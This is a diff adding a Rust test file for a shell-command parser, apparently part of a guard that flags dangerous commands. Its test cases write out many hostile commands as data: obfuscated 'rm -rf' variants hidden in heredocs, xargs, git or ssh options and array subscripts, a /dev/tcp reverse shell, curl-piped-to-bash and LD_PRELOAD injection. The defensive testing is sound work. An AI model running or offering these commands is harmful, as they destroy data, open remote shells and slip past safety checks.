@@ -1,0 +1,507 @@
+use super::heredoc::grammar_safe;
+use super::*;
+use crate::canon;
+
+fn names(cmd: &str) -> Vec<String> {
+    parse(cmd)
+        .commands
+        .iter()
+        .map(|c| canon::canonical_text(&c.words))
+        .collect()
+}
+
+#[test]
+fn splits_and_unwraps() {
+    let cases: &[(&str, &[&str])] = &[
+        ("ls -la && rm -rf /", &["ls -a -l", "rm -f -r /"]),
+        (
+            "sudo -u root env FOO=1 nice -n 5 rm -rf /",
+            &["sudo -u root", "rm -f -r /"],
+        ),
+        ("bash -c 'rm -rf /'", &["rm -f -r /"]),
+        ("sh -lc \"git push --force\"", &["git push -f"]),
+        ("eval \"rm -rf ~\"", &["rm -f -r ~", "eval"]),
+        ("r''m -rf /", &["rm -f -r /"]),
+        ("\\rm -rf /", &["rm -f -r /"]),
+        ("FOO=1 /bin/rm  -rf /", &["rm -f -r /"]),
+        ("echo $(rm -rf /)", &["rm -f -r /", "echo '$(rm -rf /)'"]),
+        (
+            "find . -name '*.o' -exec rm -f {} \\;",
+            &["rm -f {}", "find . -name *.o -exec rm -f {} ;"],
+        ),
+        ("xargs -0 rm -rf", &["rm -f -r"]),
+        ("timeout 10 cargo test", &["cargo test"]),
+        ("git commit -m 'rm -rf /'", &["git commit -m 'rm -rf /'"]),
+        ("echo hi > ~/.bashrc", &["echo hi >~/.bashrc"]),
+        (
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            &["bash -i >/dev/tcp/10.0.0.1/4444"],
+        ),
+        ("ls 2>&1 >/dev/null", &["ls >/dev/null"]),
+        ("GIT_PAGER='rm -rf ~' git log", &["rm -f -r ~", "git log"]),
+        ("psql <<< 'DROP TABLE x'", &["psql 'DROP TABLE x'"]),
+        (
+            "ssh host 'rm -rf /'",
+            &["rm -f -r /", "ssh host 'rm -rf /'"],
+        ),
+        ("bash <<EOF\nrm -rf /\nEOF", &["rm -f -r /", "bash"]),
+        (
+            "echo 'rm -rf /' | sh",
+            &["echo 'rm -rf /'", "rm -f -r /", "sh"],
+        ),
+        ("{ rm -rf /; }", &["rm -f -r /"]),
+        ("f() { rm -rf /; }; f", &["rm -f -r /", "f"]),
+    ];
+    let mut bad = Vec::new();
+    for (cmd, want) in cases {
+        if names(cmd) != *want {
+            bad.push(format!("{cmd:?}: got {:?}", names(cmd)));
+        }
+    }
+    assert!(bad.is_empty(), "{}", bad.join("\n"));
+}
+
+/// Every simple command bash runs is in the parse: the rest of a line after a heredoc,
+/// heredoc bodies that reach a shell, xargs/parallel templates with their input, array
+/// subscripts, commands run by options.
+#[test]
+fn nothing_the_shell_runs_is_dropped() {
+    let cases: &[(&str, &[&str])] = &[
+        ("cat <<EOF | bash\nrm -rf ~\nEOF", &["rm -f -r ~", "bash"]),
+        (
+            "timeout 5 cat <<EOF | sh\nrm -rf ~\nEOF",
+            &["rm -f -r ~", "sh"],
+        ),
+        (
+            "cat <<EOF && rm -rf ~\nhello\nEOF",
+            &["cat 'hello\n'", "rm -f -r ~"],
+        ),
+        (
+            "cat <<EOF || rm -rf ~ && ls\nhi\nEOF",
+            &["rm -f -r ~", "ls"],
+        ),
+        (
+            "cat <<EOF > /tmp/p.sh && bash /tmp/p.sh\nrm -rf ~\nEOF",
+            &[
+                "cat 'rm -rf ~\n' >/tmp/p.sh",
+                "rm -f -r ~",
+                "bash /tmp/p.sh",
+            ],
+        ),
+        ("cat <<'X' | psql\nDROP TABLE t;\nX", &["psql"]),
+        (
+            "cat <<EOF | bash | tee log && echo ok\nrm -rf ~\nEOF",
+            &["rm -f -r ~", "tee log", "echo ok"],
+        ),
+        ("echo 'x' > a.sh; sh a.sh", &["x"]),
+        ("printf 'rm -rf ~' > a.sh && . a.sh", &["rm -f -r ~"]),
+        ("echo 'rm -rf /' | xargs -I{} bash -c {}", &["rm -f -r /"]),
+        ("echo 'rm -rf /' | parallel bash -c {}", &["rm -f -r /"]),
+        ("parallel bash -c {} ::: 'rm -rf /'", &["rm -f -r /"]),
+        ("echo / | xargs rm -rf", &["rm -f -r /"]),
+        ("xargs -i rm {} < list", &["rm {}"]),
+        (
+            "echo / | xargs --replace= sh -c 'rm -rf {}'",
+            &["rm -f -r /"],
+        ),
+        ("echo / | xargs -J % rm -rf %", &["rm -f -r /"]),
+        ("parallel ::: 'rm -rf /'", &["rm -f -r /"]),
+        ("env - rm -rf /", &["rm -f -r /"]),
+        ("env -P /usr/bin rm -rf /", &["rm -f -r /"]),
+        ("printf -v 'a[$(rm -rf ~)]' x", &["rm -f -r ~"]),
+        ("read 'a[`rm -rf ~`]' <<< 1", &["rm -f -r ~"]),
+        ("declare 'a[$(rm -rf ~)]=1'", &["rm -f -r ~"]),
+        ("git -c core.pager='rm -rf ~' log", &["rm -f -r ~"]),
+        ("git -c alias.x='!rm -rf ~' x", &["rm -f -r ~"]),
+        ("git bisect run rm -rf ~", &["rm -f -r ~"]),
+        ("git fetch --upload-pack='rm -rf ~' origin", &["rm -f -r ~"]),
+        ("go test -exec 'rm -rf ~' ./...", &["rm -f -r ~"]),
+        ("go build -toolexec=/tmp/x .", &["x"]),
+        (
+            "cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"rm -rf ~\"' run",
+            &["rm -f -r ~"],
+        ),
+        ("sort --compress-program=/tmp/evil big.txt", &["evil"]),
+        ("tar --to-command='rm -rf ~' -xf a.tar", &["rm -f -r ~"]),
+        ("tar -I 'rm -rf ~' -xf a.tar", &["rm -f -r ~"]),
+        ("rsync -e 'rm -rf ~' a b:", &["rm -f -r ~"]),
+        ("ssh -o ProxyCommand='rm -rf ~' host", &["rm -f -r ~"]),
+        ("ssh -oProxyCommand='rm -rf ~' host", &["rm -f -r ~"]),
+        ("vim -c '!rm -rf ~' x", &["rm -f -r ~"]),
+        ("vim '+!rm -rf ~' x", &["rm -f -r ~"]),
+        ("find . -exec sh -c 'rm -rf ~' \\;", &["rm -f -r ~"]),
+        ("diff <(rm -rf ~) x", &["rm -f -r ~"]),
+        (
+            "TERRAPHIM_GUARD_KG=/tmp/kg git status",
+            &["export TERRAPHIM_GUARD_KG="],
+        ),
+    ];
+    let mut bad = Vec::new();
+    for (cmd, want) in cases {
+        let got = names(cmd);
+        for w in *want {
+            if !got.iter().any(|g| g == w) {
+                bad.push(format!("{cmd:?}: {w:?} missing from {got:?}"));
+            }
+        }
+    }
+    assert!(bad.is_empty(), "{}", bad.join("\n"));
+}
+
+#[test]
+fn input_of_unknown_text_into_a_shell_is_a_finding() {
+    for cmd in [
+        "cat list | xargs -I{} sh -c '{}'",
+        "xargs -a cmds.txt bash -c",
+    ] {
+        let p = parse(cmd);
+        assert!(
+            p.commands
+                .iter()
+                .any(|c| c.findings.contains(&Finding::CodeFromInput)),
+            "{cmd:?}: {:?}",
+            p.commands
+        );
+    }
+    for cmd in [
+        "printf 'all:\\n\\ttrue' > Makefile && make",
+        "echo '{}' > package.json; npm test",
+        "cp /tmp/c.py conftest.py && pytest",
+    ] {
+        let p = parse(cmd);
+        assert!(
+            p.commands
+                .iter()
+                .any(|c| c.findings.contains(&Finding::RunsWrittenFile)),
+            "{cmd:?}"
+        );
+    }
+    for cmd in ["make && echo ok > Makefile.log", "npm test > out.txt"] {
+        let p = parse(cmd);
+        assert!(
+            p.commands
+                .iter()
+                .all(|c| !c.findings.contains(&Finding::RunsWrittenFile)),
+            "{cmd:?}"
+        );
+    }
+    assert!(
+        parse("export BASH_ENV=/tmp/x")
+            .commands
+            .iter()
+            .any(|c| c.findings.contains(&Finding::EnvInjection))
+    );
+    assert!(
+        parse("git -c core.hooksPath=/tmp/h commit -m x")
+            .commands
+            .iter()
+            .any(|c| c.findings.contains(&Finding::EnvInjection))
+    );
+}
+
+/// tree-sitter-bash's scanner crashes on `{` followed by a code point above U+00FF
+/// (tree-sitter-bash#337); the mapped input parses to the same commands.
+#[test]
+fn high_code_points_after_a_brace_do_not_crash() {
+    for c in [
+        '\u{E0100}',
+        '\u{10FFFF}',
+        '\u{2013}',
+        '\u{3000}',
+        '\u{100}',
+        '\u{FFFD}',
+    ] {
+        for template in [
+            "echo {C",
+            "echo {12C",
+            "echo {1..2C}",
+            "ls {C,b} && rm -rf {C",
+            "cat <<{C\nx\n{C\n",
+            "x={C; echo \"{C\"",
+        ] {
+            let cmd = template.replace('C', &c.to_string());
+            let p = parse(&cmd);
+            assert!(!p.commands.is_empty(), "{cmd:?}");
+            let words: Vec<String> = p.commands.iter().flat_map(|c| c.argv.clone()).collect();
+            // Words come from the original text, not the mapped one.
+            assert!(
+                words.iter().all(|w| !w.contains('\u{7f}')),
+                "{cmd:?}: {words:?}"
+            );
+        }
+    }
+    assert_eq!(names("rm -rf {\u{E0100}"), ["rm -f -r {\u{E0100}"]);
+    assert_eq!(grammar_safe("echo é{x"), "echo é{x");
+    assert_eq!(grammar_safe("a{\u{E0100}b").len(), "a{\u{E0100}b".len());
+}
+
+#[test]
+fn values_stay_with_their_flags() {
+    for (cmd, want) in [
+        ("curl -sS -m3 http://x", "curl -S -s -m 3 http://x"),
+        ("curl -sS -m 3 http://x", "curl -S -s -m 3 http://x"),
+        ("curl -m 3 -sS http://x", "curl -m 3 -S -s http://x"),
+        ("tail -fn 20 log", "tail -f -n 20 log"),
+        ("rm -fr /", "rm -f -r /"),
+    ] {
+        assert_eq!(names(cmd), [want], "{cmd:?}");
+    }
+}
+
+#[test]
+fn findings() {
+    assert_eq!(
+        parse("$X -rf /").commands[0].findings,
+        [Finding::DynamicName]
+    );
+    assert_eq!(
+        parse("curl x | bash").commands[1].findings,
+        [Finding::PipeIntoShell]
+    );
+    assert_eq!(
+        parse("bash -c \"$CODE\"").commands[0].findings,
+        [Finding::DynamicCode]
+    );
+    assert_eq!(
+        parse("bash <(curl x)")
+            .commands
+            .last()
+            .map(|c| c.findings.clone()),
+        Some(vec![Finding::ProcessSubstitutionIntoShell])
+    );
+    assert!(parse("if then fi ((").findings.contains(&Finding::Unparsed));
+    assert_eq!(
+        parse("LD_PRELOAD=/tmp/x.so ls").commands[0].findings,
+        [Finding::EnvInjection]
+    );
+    assert_eq!(
+        parse("env LD_PRELOAD=/tmp/x.so ls").commands[0].findings,
+        [Finding::EnvInjection]
+    );
+    assert!(parse("FOO=1 ls").commands[0].findings.is_empty());
+}
+
+/// The plain-line parser must change nothing: every line, plain or not, parses the same
+/// with and without it.
+#[track_caller]
+fn same_as_tree_sitter(line: &str) {
+    let fast = format!("{:?}", parse_with(line, true));
+    let slow = format!("{:?}", parse_with(line, false));
+    assert_eq!(fast, slow, "line {line:?}");
+}
+
+#[test]
+fn plain_lines_skip_tree_sitter() {
+    for line in [
+        "git status",
+        "cd /work/project && FOO=1 timeout 60 cargo test -p x --release -- --nocapture | tail -n 20",
+        "sudo env X=1 bash -c 'git status && rm -rf /tmp/build; echo \"done\" | tee log.txt'",
+        "rm -rf --no-preserve-root /",
+        "GIT_PAGER='rm -rf ~' git log",
+        "a; b;",
+        "a | b | c; d && e | f",
+    ] {
+        assert!(plain::parse(line).is_some(), "{line:?}");
+        same_as_tree_sitter(line);
+    }
+    for line in [
+        "",
+        ";",
+        "a;;",
+        "a &",
+        "a |& b",
+        "a && ",
+        "| a",
+        "x=1",
+        "if true",
+        "export X=1",
+        "echo $HOME",
+        "echo a'b'",
+        "echo 'a'b",
+        "echo \"$x\"",
+        "ls > f",
+        "a\nb",
+        "echo {a,b}",
+        "echo \\x",
+        "# c",
+        "a=b=c",
+        "1x=2 ls",
+        "echo 'unclosed",
+        "t@example.com",
+        "a | b | c && d",
+        "x | 'y' | z || w",
+        "a && b | c | d",
+        "- A=1",
+        "X=1 a:b",
+        "_= bash",
+    ] {
+        assert!(plain::parse(line).is_none(), "{line:?}");
+        same_as_tree_sitter(line);
+    }
+}
+
+#[test]
+fn plain_lines_nest_as_deep_as_tree_sitter() {
+    // The walk's node depth limit must trip at the same place with and without tree-sitter.
+    for k in (0..=200).step_by(1) {
+        let open = "(".repeat(k);
+        let close = ")".repeat(k);
+        same_as_tree_sitter(&format!("{open}bash -c 'a && b | c && d; e'{close}"));
+        same_as_tree_sitter(&format!("{open}eval 'a || b | c'{close}"));
+    }
+    let chain = |n: usize| vec!["a"; n].join(" && ");
+    for n in [1, 2, 63, 64, 65, 200] {
+        same_as_tree_sitter(&chain(n));
+        same_as_tree_sitter(&format!("bash -c '{}'", chain(n)));
+    }
+}
+
+fn token() -> impl proptest::strategy::Strategy<Value = String> {
+    use proptest::prelude::*;
+    let fixed = prop::sample::select(vec![
+        "sudo",
+        "env",
+        "bash",
+        "sh",
+        "-c",
+        "-lc",
+        "timeout",
+        "60",
+        "git",
+        "rm",
+        "-rf",
+        "/",
+        "~",
+        "~/x",
+        "*",
+        "./*",
+        "..",
+        "X=1",
+        "GIT_PAGER=",
+        "GIT_PAGER=less",
+        "LD_PRELOAD=x",
+        "FOO+=1",
+        "=x",
+        "1A=b",
+        "a=b=c",
+        "eval",
+        "xargs",
+        "ssh",
+        "host",
+        "watch",
+        "find",
+        "-exec",
+        "echo",
+        "printf",
+        "tee",
+        "su",
+        "nice",
+        "-n",
+        "command",
+        "exec",
+        "busybox",
+        "python3",
+        "psql",
+        "if",
+        "then",
+        "fi",
+        "for",
+        "in",
+        "do",
+        "done",
+        "case",
+        "esac",
+        "while",
+        "until",
+        "select",
+        "function",
+        "time",
+        "export",
+        "local",
+        "declare",
+        "readonly",
+        "typeset",
+        "unset",
+        "coproc",
+        "--",
+        "-",
+        "--x=2",
+        "-1",
+        "0x10",
+        "1.5",
+        "a,b",
+        "a:b",
+        "a%b",
+        "a+b",
+        "x.y/z",
+        "CC=gcc",
+        "EDITOR=vim",
+        "PAGER='less -R'",
+        "X=\"a b\"",
+        "X=''",
+        "X=\"\"",
+        "''",
+        "\"\"",
+        "'rm'",
+        "\"rm\"",
+        "==",
+        "=~",
+        "!=",
+        "-eq",
+        "a==b",
+        "a:",
+        "1:",
+        "a:b",
+        "X=1 a:b",
+        "- A=1",
+        "_=",
+        "_=x",
+        "__=1",
+        "_A=1",
+        "]]",
+        "[[",
+        "x%",
+        "a@b",
+    ])
+    .prop_map(str::to_string);
+    let plain = "[a-z0-9_./:%+,=~*@^!?#{}\\[\\]-]{1,6}";
+    let quoted = "[a-z ;|&$`\"\\\\\n\t<>(){}#!~*é\u{2013}\u{a0}]{0,8}"
+        .prop_map(|s| format!("'{}'", s.replace('\'', "")));
+    let dquoted = "[a-z ;|&$`'\\\\\n\t<>(){}#!~*é\u{2013}]{0,8}"
+        .prop_map(|s| format!("\"{}\"", s.replace('"', "")));
+    prop_oneof![4 => fixed, 3 => plain.prop_map(|s| s), 1 => quoted, 1 => dquoted]
+}
+
+fn separator() -> impl proptest::strategy::Strategy<Value = &'static str> {
+    proptest::sample::select(vec![
+        " ", " ", " ", "  ", "\t", ";", " ; ", "&&", " && ", "||", " || ", "|", " | ", "&", "\n",
+        "", ";;", "|&", " >", "<", "(", ")", "$", "\\", "#", "\r",
+    ])
+}
+
+fn line() -> impl proptest::strategy::Strategy<Value = String> {
+    use proptest::prelude::*;
+    prop::collection::vec((token(), separator()), 1..12).prop_map(|parts| {
+        parts
+            .into_iter()
+            .map(|(t, s)| format!("{t}{s}"))
+            .collect::<String>()
+    })
+}
+
+proptest::proptest! {
+    // PROPTEST_CASES=200000 for a long run.
+    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(
+        std::env::var("PROPTEST_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(4096)
+    ))]
+
+    #[test]
+    fn plain_parse_is_tree_sitter_parse(l in line(), pre in line(), nested in line()) {
+        same_as_tree_sitter(&l);
+        same_as_tree_sitter(l.trim_end());
+        // Code nested in strings is parsed again, maybe plain inside a line that is not.
+        let inner = nested.replace('\'', "");
+        same_as_tree_sitter(&format!("{pre} bash -c '{inner}'"));
+        same_as_tree_sitter(&format!("sudo env A=1 sh -c '{inner}' | {l}"));
+    }
+}
